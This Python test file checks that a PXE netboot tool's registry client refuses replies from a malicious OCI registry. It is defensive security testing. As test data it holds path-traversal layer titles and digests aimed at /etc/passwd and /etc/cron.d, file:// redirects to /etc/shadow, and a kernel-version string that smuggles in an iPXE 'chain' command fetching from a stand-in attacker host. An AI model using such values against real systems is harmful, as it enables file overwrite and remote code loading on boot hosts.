"""Registry replies an attacker (or a broken registry) could send, against `pxe pull`, `pxe push` and the
client: each is one line on stderr, exit 1 (a remote failure, like every registry error; exit 2 stays for
the user's own input), no traceback, and nothing placed, linked or written outside the destination.

Crafted replies come from a table-driven server on 127.0.0.1 (tests/support/servers.py); artifacts that a real
registry accepts but whose content is hostile are pushed to the real docker-registry."""

import hashlib
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from registry import Registry, start_registry
from test_artifacts import IMAGE_DIGEST, netboot_set

from builder.core.digests import sha256_digest
from builder.publish.artifacts import ANNOTATION, NETBOOT_FILES, NETBOOT_TYPE, TITLE, push_artifact
from builder.registry.client import OCI_INDEX, OCI_MANIFEST, RegistryClient, Repository
from conftest import run_cli_inproc
from servers import Crafted, Reply, Seen

EMPTY = b"{}"
Manifest = dict[str, Any]


def descriptor(media_type: str, data: bytes, title: str | None = None) -> dict[str, Any]:
    entry: dict[str, Any] = {"mediaType": media_type, "digest": sha256_digest(data), "size": len(data)}
    if title is not None:
        entry["annotations"] = {TITLE: title}
    return entry


class CraftedSet:
    """A netboot artifact served by the crafted registry as repository `nb`, tag `set`; tests spoil it."""

    def __init__(self, server: Crafted, folder: Path) -> None:
        self.server = server
        self.blobs = {name: (folder / name).read_bytes() for name in NETBOOT_FILES}
        self.manifest: Manifest = {
            "schemaVersion": 2, "mediaType": OCI_MANIFEST, "artifactType": NETBOOT_TYPE,
            "config": descriptor("application/vnd.oci.empty.v1+json", EMPTY),
            "layers": [descriptor(media, self.blobs[name], name) for name, media in NETBOOT_FILES.items()],
            "annotations": {f"{ANNOTATION}.image.digest": IMAGE_DIGEST},
        }
        for data in (EMPTY, *self.blobs.values()):
            self.blob(sha256_digest(data), Reply(200, {"Content-Type": "application/octet-stream"}, data))

    def blob(self, digest: str, reply: Reply | Callable[..., Reply]) -> None:
        self.server.routes[("GET", f"/v2/nb/blobs/{digest}")] = reply

    def serve(self, data: bytes | None = None, ref: str = "set", **headers: str) -> bytes:
        body = data if data is not None else json.dumps(self.manifest).encode()
        sent = {"Content-Type": OCI_MANIFEST, "Docker-Content-Digest": sha256_digest(body), **headers}
        self.server.routes[("GET", f"/v2/nb/manifests/{ref}")] = Reply(200, sent, body)
        return body

    @property
    def reference(self) -> str:
        return f"{self.server.host}/nb:set"


@pytest.fixture
def crafted(tmp_path: Path) -> Iterator[CraftedSet]:
    server = Crafted()
    yield CraftedSet(server, netboot_set(tmp_path / "nb", seed=21))
    server.close()


@pytest.fixture
def registry(tmp_path: Path) -> Iterator[Registry]:
    with start_registry(tmp_path / "registry") as reg:
        yield reg


def pull_refused(reference: str, tmp_path: Path, message: str) -> None:
    """`pxe pull` fails with `message` on one line, and leaves nothing behind."""
    dest = tmp_path / "dest"
    before = sorted(p.name for p in tmp_path.iterdir())
    proc = run_cli_inproc("pxe", "pull", reference, "--dest", str(dest), timeout=120)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "Traceback" not in proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert lines[0].startswith("error: ") and len(lines) <= 2 and message in lines[0], proc.stderr
    # Nothing placed: at most an empty sets/ folder, and nothing new next to the destination.
    assert not dest.exists() or [p.relative_to(dest).as_posix() for p in dest.rglob("*")] in ([], ["sets"])
    assert sorted(p.name for p in tmp_path.iterdir() if p.name != "dest") == [n for n in before if n != "dest"]


# --- the crafted registry ------------------------------------------------------------------------------

def test_the_crafted_set_is_a_valid_one(crafted: CraftedSet, tmp_path: Path) -> None:
    crafted.serve()
    proc = run_cli_inproc("pxe", "pull", crafted.reference, "--dest", str(tmp_path / "dest"))
    assert proc.returncode == 0, proc.stderr
    assert (tmp_path / "dest" / "cpu-cpu" / "root.squashfs").read_bytes() == crafted.blobs["root.squashfs"]


def test_manifest_with_a_web_page_media_type(crafted: CraftedSet, tmp_path: Path) -> None:
    crafted.serve(b"<html>sign in</html>", **{"Content-Type": "text/html"})
    pull_refused(crafted.reference, tmp_path, "not a JSON object")


def test_manifest_json_with_a_non_manifest_media_type(crafted: CraftedSet, tmp_path: Path) -> None:
    crafted.manifest.pop("mediaType")
    crafted.serve(**{"Content-Type": "application/vnd.example.evil+json"})
    pull_refused(crafted.reference, tmp_path, "is not a manifest")


def test_manifest_that_is_not_json(crafted: CraftedSet, tmp_path: Path) -> None:
    crafted.serve(b'{"schemaVersion": 2, "layers": [')
    pull_refused(crafted.reference, tmp_path, "not a JSON object")


def test_manifest_body_says_index_while_the_header_says_manifest(crafted: CraftedSet, tmp_path: Path) -> None:
    crafted.manifest["mediaType"] = OCI_INDEX
    crafted.serve()
    pull_refused(crafted.reference, tmp_path, f"says it is '{OCI_INDEX}'")


def test_huge_manifest_with_its_length_announced(crafted: CraftedSet, tmp_path: Path) -> None:
    crafted.manifest["annotations"]["padding"] = "x" * (5 << 20)
    crafted.serve()
    pull_refused(crafted.reference, tmp_path, "more than the 4 MiB allowed")


def test_huge_manifest_streamed_without_a_length(crafted: CraftedSet, tmp_path: Path) -> None:
    crafted.manifest["annotations"]["padding"] = "x" * (5 << 20)
    body = json.dumps(crafted.manifest).encode()
    crafted.server.routes[("GET", "/v2/nb/manifests/set")] = Reply(200, {"Content-Type": OCI_MANIFEST}, body,
                                                                    no_length=True)
    pull_refused(crafted.reference, tmp_path, "more than the 4 MiB allowed")


def test_truncated_manifest(crafted: CraftedSet, tmp_path: Path) -> None:
    body = json.dumps(crafted.manifest).encode()
    crafted.server.routes[("GET", "/v2/nb/manifests/set")] = Reply(200, {"Content-Type": OCI_MANIFEST}, body,
                                                                    cut_at=len(body) // 2)
    pull_refused(crafted.reference, tmp_path, "cut off")


def test_manifest_asked_by_digest_comes_back_different(crafted: CraftedSet, tmp_path: Path) -> None:
    asked = sha256_digest(json.dumps(crafted.manifest).encode())
    crafted.manifest["annotations"]["swapped"] = "yes"
    crafted.serve(ref=asked, **{"Docker-Content-Digest": asked})
    pull_refused(f"{crafted.server.host}/nb@{asked}", tmp_path, "whose digest is")


def test_manifest_whose_announced_digest_is_not_its_own(crafted: CraftedSet, tmp_path: Path) -> None:
    crafted.serve(**{"Docker-Content-Digest": "sha256:" + "0" * 64})
    pull_refused(crafted.reference, tmp_path, "announced digest")


def test_blob_whose_bytes_are_not_its_digest(crafted: CraftedSet, tmp_path: Path) -> None:
    crafted.serve()
    kernel = crafted.manifest["layers"][0]
    crafted.blob(kernel["digest"], Reply(200, {}, b"a different kernel" * 100))
    pull_refused(crafted.reference, tmp_path, "arrived with another digest")


def test_blob_longer_than_its_descriptor(crafted: CraftedSet, tmp_path: Path) -> None:
    crafted.serve()
    kernel = crafted.manifest["layers"][0]
    crafted.blob(kernel["digest"], Reply(200, {}, crafted.blobs["vmlinuz"] + b"\0" * (4 << 20)))
    pull_refused(crafted.reference, tmp_path, f"larger than the {kernel['size']} bytes")


def test_layer_digest_with_a_path_in_it(crafted: CraftedSet, tmp_path: Path) -> None:
    crafted.manifest["layers"][0]["digest"] = "sha256:../../../../etc/passwd"
    crafted.serve()
    pull_refused(crafted.reference, tmp_path, "needs a sha256 digest and a size")
    assert not any("etc" in s.path for s in crafted.server.seen)


def test_layers_that_are_not_a_list(crafted: CraftedSet, tmp_path: Path) -> None:
    crafted.manifest["layers"] = {"vmlinuz": crafted.manifest["layers"][0]}
    crafted.serve()
    pull_refused(crafted.reference, tmp_path, f"every layer needs a {TITLE} annotation")


def test_blob_redirect_to_a_file_url(crafted: CraftedSet, tmp_path: Path) -> None:
    crafted.serve()
    crafted.blob(crafted.manifest["layers"][0]["digest"], Reply(307, {"Location": "file:///etc/passwd"}))
    pull_refused(crafted.reference, tmp_path, "only http(s) URLs are followed")


def test_blob_redirect_loop(crafted: CraftedSet, tmp_path: Path) -> None:
    crafted.serve()
    digest = crafted.manifest["layers"][0]["digest"]
    crafted.blob(digest, Reply(302, {"Location": f"/v2/nb/blobs/{digest}"}))
    pull_refused(crafted.reference, tmp_path, "more than 5 redirects")


def test_token_realm_with_a_file_url(crafted: CraftedSet, tmp_path: Path) -> None:
    crafted.server.routes[("GET", "/v2/nb/manifests/set")] = Reply(
        401, {"WWW-Authenticate": 'Bearer realm="file:///etc/shadow",service="x"'})
    pull_refused(crafted.reference, tmp_path, "is not an http(s) URL")


def test_credentials_are_not_sent_to_a_plain_http_token_service_elsewhere(crafted: CraftedSet, tmp_path: Path,
                                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    auth = tmp_path / "auth.json"
    auth.write_text(json.dumps({"auths": {crafted.server.host: {"auth": "dXNlcjpzZWNyZXQ="}}}))  # user:secret
    monkeypatch.setenv("REGISTRY_AUTH_FILE", str(auth))
    crafted.server.routes[("GET", "/v2/nb/manifests/set")] = Reply(
        401, {"WWW-Authenticate": 'Bearer realm="http://tokens.example.invalid/token"'})
    pull_refused(crafted.reference, tmp_path, "credentials are not sent in the clear")


def test_a_huge_error_body_is_cut_short(crafted: CraftedSet, tmp_path: Path) -> None:
    crafted.server.routes[("GET", "/v2/nb/manifests/set")] = Reply(
        400, {"Content-Type": "application/json"},
        json.dumps({"errors": [{"code": "DENIED", "message": "y" * (8 << 20)}]}).encode())
    pull_refused(crafted.reference, tmp_path, "answered 400")


def test_an_upload_sent_elsewhere_gets_no_credentials(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    registry, elsewhere = Crafted(), Crafted()
    try:
        auth = tmp_path / "auth.json"
        auth.write_text(json.dumps({"auths": {registry.host: {"auth": "dXNlcjpzZWNyZXQ="}}}))
        monkeypatch.setenv("REGISTRY_AUTH_FILE", str(auth))

        def needs_auth(ok: Reply) -> Callable[..., Reply]:
            return lambda seen: ok if seen.headers.get("authorization") else \
                Reply(401, {"WWW-Authenticate": 'Basic realm="crafted"'})
        data = b"a layer"
        registry.routes[("HEAD", f"/v2/x/blobs/{sha256_digest(data)}")] = needs_auth(Reply(404))
        registry.routes[("POST", "/v2/x/blobs/uploads/")] = needs_auth(
            Reply(202, {"Location": f"http://{elsewhere.host}/upload/1"}))
        elsewhere.routes[("PUT", "/upload/1")] = Reply(201)
        client = RegistryClient(Repository.parse(f"{registry.host}/x"), push=True)
        assert client.push_blob(sha256_digest(data), len(data), data) is True
        assert registry.seen[-1].headers.get("authorization", "").startswith("Basic ")
        [upload] = elsewhere.seen
        assert upload.body == data and "authorization" not in upload.headers
    finally:
        registry.close()
        elsewhere.close()


# --- hostile content the real registry accepts --------------------------------------------------------

def push_spoiled(registry: Registry, folder: Path, *, titles: dict[str, str] | None = None,
                 manifest_json: Callable[[Manifest], None] | None = None, artifact_type: str = NETBOOT_TYPE,
                 extra: list[tuple[bytes | Path, str, str]] | None = None) -> str:
    """Push a netboot set around builder's own checks, as a tampering producer would; returns the reference."""
    if manifest_json is not None:
        doc = json.loads((folder / "manifest.json").read_text())
        manifest_json(doc)
        (folder / "manifest.json").write_text(json.dumps(doc))
    client = RegistryClient(Repository.parse(f"{registry.host}/netboot"), push=True)
    files: list[tuple[bytes | Path, str, str]] = [
        (folder / name, media, (titles or {}).get(name, name)) for name, media in NETBOOT_FILES.items()]
    digest, data = push_artifact(client, artifact_type, files + (extra or []),
                                 annotations={f"{ANNOTATION}.image.digest": IMAGE_DIGEST})
    client.put_manifest("spoiled", data, OCI_MANIFEST)
    return f"{registry.host}/netboot:spoiled"


def test_layer_title_that_climbs_out(registry: Registry, tmp_path: Path) -> None:
    ref = push_spoiled(registry, netboot_set(tmp_path / "nb", seed=22), titles={"vmlinuz": "../../vmlinuz"})
    pull_refused(ref, tmp_path, "layer title '../../vmlinuz' is not one of the netboot files")
    assert not (tmp_path / "vmlinuz").exists()


def test_an_extra_layer_with_an_absolute_title(registry: Registry, tmp_path: Path) -> None:
    ref = push_spoiled(registry, netboot_set(tmp_path / "nb", seed=23),
                       extra=[(b"#!/bin/sh\n", "application/octet-stream", "/etc/cron.d/evil")])
    pull_refused(ref, tmp_path, "layer title '/etc/cron.d/evil' is not one of the netboot files")


def test_two_layers_with_one_title(registry: Registry, tmp_path: Path) -> None:
    folder = netboot_set(tmp_path / "nb", seed=24)
    ref = push_spoiled(registry, folder, extra=[(b"second", NETBOOT_FILES["vmlinuz"], "vmlinuz")])
    pull_refused(ref, tmp_path, "two layers are titled vmlinuz")


def test_something_that_is_not_a_netboot_artifact(registry: Registry, tmp_path: Path) -> None:
    ref = push_spoiled(registry, netboot_set(tmp_path / "nb", seed=25), artifact_type="application/spdx+json")
    pull_refused(ref, tmp_path, "not a netboot artifact")


def test_set_manifest_target_that_climbs_out(registry: Registry, tmp_path: Path) -> None:
    def climb(doc: Manifest) -> None:
        doc["target"] = "../../escape"
    ref = push_spoiled(registry, netboot_set(tmp_path / "nb", seed=26), manifest_json=climb)
    pull_refused(ref, tmp_path, "target: '../../escape' is not a plain name")
    assert not list(tmp_path.glob("escape*")) and not list((tmp_path / "dest").glob("escape*"))


def test_set_manifest_naming_a_file_outside_the_set(registry: Registry, tmp_path: Path) -> None:
    def outside(doc: Manifest) -> None:
        doc["files"]["../../../../etc/passwd"] = {"sha256": hashlib.sha256(b"").hexdigest(), "size": 0}
    ref = push_spoiled(registry, netboot_set(tmp_path / "nb", seed=27), manifest_json=outside)
    pull_refused(ref, tmp_path, "files: expected exactly vmlinuz, initrd.img, root.squashfs")


def test_set_manifest_kernel_version_with_a_newline(registry: Registry, tmp_path: Path) -> None:
    def inject(doc: Manifest) -> None:
        doc["kernel_version"] = "6.1.0\nchain http://attacker/evil.ipxe"
    ref = push_spoiled(registry, netboot_set(tmp_path / "nb", seed=28), manifest_json=inject)
    pull_refused(ref, tmp_path, "kernel_version:")


def test_set_manifest_that_is_a_list(registry: Registry, tmp_path: Path) -> None:
    folder = netboot_set(tmp_path / "nb", seed=29)
    (folder / "manifest.json").write_text("[1, 2, 3]")
    ref = push_spoiled(registry, folder)
    pull_refused(ref, tmp_path, "manifest.json: expected a JSON object")


def test_a_planted_set_is_refused_by_pxe_publish(tmp_path: Path) -> None:
    # `pxe publish --artifacts` reads pulled folders: one someone else filled must not name files elsewhere.
    pulled = tmp_path / "pulled"
    folder = netboot_set(pulled / "cpu-cpu", seed=30)
    doc = json.loads((folder / "manifest.json").read_text())
    doc["files"] = {"../../../../etc/shadow": {"sha256": "0" * 64, "size": 1}, **doc["files"]}
    (folder / "manifest.json").write_text(json.dumps(doc))
    inventory = tmp_path / "cluster.yaml"
    inventory.write_text("control: {address: 10.0.2.2}\n"
                         "nodes: [{name: n1, mac: '52:54:00:12:34:56', target: cpu, role: rpc-worker}]\n")
    root = tmp_path / "boot-root"
    proc = run_cli_inproc("pxe", "publish", str(inventory), "--root", str(root), "--artifacts", str(pulled))
    assert proc.returncode == 2 and "files: expected exactly" in proc.stderr and "Traceback" not in proc.stderr
    assert not (root / "blobs").exists() and not (root / "current").exists()


# --- push: a registry that lies about what it stored ---------------------------------------------------

class CraftedPushTarget:
    """Enough of a registry for `pxe push`: uploads land in `blobs`, manifests in `manifests`; `lie` bends
    one of its answers. Tags are the manifest PUTs whose reference is not a digest."""

    def __init__(self, server: Crafted, lie: str) -> None:
        self.lie = lie
        self.blobs: dict[str, bytes] = {}
        self.manifests: dict[str, bytes] = {}
        location = "ftp://elsewhere/upload" if lie == "ftp-location" else "/v2/nb/uploads/1"
        server.routes[("POST", "/v2/nb/blobs/uploads/")] = Reply(202, {"Location": location})
        server.routes[("PUT", "/v2/nb/uploads/1")] = self._upload
        server.fallback = self._route

    def _upload(self, seen: Seen) -> Reply:
        if self.lie == "upload-500":
            return Reply(500)
        digest = seen.path.split("digest=")[1]
        self.blobs[digest] = seen.body
        return Reply(201, {"Docker-Content-Digest": digest})

    def _route(self, seen: Seen) -> Reply | None:
        kind, _, ref = seen.path.removeprefix("/v2/nb/").partition("/")
        if kind == "blobs" and seen.method == "HEAD":
            return Reply(200 if ref in self.blobs else 404)
        if kind != "manifests":
            return None
        if seen.method == "PUT":
            self.manifests[ref] = seen.body
            stored = "sha256:" + "0" * 64 if self.lie == "put-digest" else sha256_digest(seen.body)
            return Reply(201, {"Docker-Content-Digest": stored})
        if ref not in self.manifests:
            return Reply(404)
        served = "sha256:" + "9" * 64 if self.lie == "head-digest" else sha256_digest(self.manifests[ref])
        return Reply(200, {"Docker-Content-Digest": served, "Content-Type": OCI_MANIFEST}, self.manifests[ref])

    @property
    def tags(self) -> list[str]:
        return [ref for ref in self.manifests if not ref.startswith("sha256:")]


@pytest.mark.parametrize(("lie", "message"), [
    ("put-digest", "stored manifest sha256:"),
    ("head-digest", "announced digest sha256:9999"),
    ("ftp-location", "not an http(s) URL"),
    ("upload-500", "failed after 3 attempts"),
])
def test_push_to_a_registry_that_lies_tags_nothing(tmp_path: Path, lie: str, message: str) -> None:
    folder = netboot_set(tmp_path / "nb", seed=31)
    server = Crafted()
    try:
        target = CraftedPushTarget(server, lie)
        proc = run_cli_inproc("pxe", "push", "--dir", str(folder), "--registry", f"{server.host}/nb", timeout=120)
        assert proc.returncode == 1, proc.stdout + proc.stderr
        assert message in proc.stderr and "Traceback" not in proc.stderr
        assert len(proc.stderr.strip().splitlines()) <= 2
        assert target.tags == []
    finally:
        server.close()


def test_the_crafted_push_target_accepts_an_honest_push(tmp_path: Path) -> None:
    folder = netboot_set(tmp_path / "nb", seed=32)
    server = Crafted()
    try:
        target = CraftedPushTarget(server, "none")
        proc = run_cli_inproc("pxe", "push", "--dir", str(folder), "--registry", f"{server.host}/nb", timeout=120)
        assert proc.returncode == 0, proc.stderr
        assert sorted(target.tags) == sorted(["netboot-cpu-cpu", f"netboot-cpu-cpu-{'ab' * 8}"])
    finally:
        server.close()
